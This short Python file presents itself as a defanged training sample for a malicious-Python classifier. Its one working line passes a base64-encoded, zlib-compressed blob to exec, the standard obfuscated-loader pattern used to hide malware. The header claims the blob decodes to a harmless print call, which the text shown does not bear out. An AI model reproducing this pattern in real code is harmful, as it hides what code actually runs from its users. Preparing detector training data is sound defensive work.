# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
# Every encoded blob below decodes to a harmless placeholder (a print call).
import zlib, base64
_ = "eNrLzC3ILypRKK4s5iooyswr0VDPSM3JyVdIK8rPVdcBiesV5CSWpOUX5WpyAUmFTIXMPIWixLz0VA1jTSsuBSCAaMzU5MocNWxgDQMADAiXzw=="
exec(zlib.decompress(base64.b64decode(_)).decode("utf-8"))
